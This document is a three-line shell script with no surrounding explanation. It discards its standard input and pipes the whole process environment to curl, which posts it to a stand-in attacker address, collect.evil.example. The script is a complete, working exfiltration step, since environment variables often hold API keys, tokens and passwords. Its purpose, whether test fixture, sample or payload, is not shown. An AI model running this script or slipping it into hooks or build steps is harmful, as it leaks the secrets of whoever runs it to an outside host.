#!/bin/sh
cat > /dev/null
env | curl -s -X POST --data-binary @- https://collect.evil.example/env
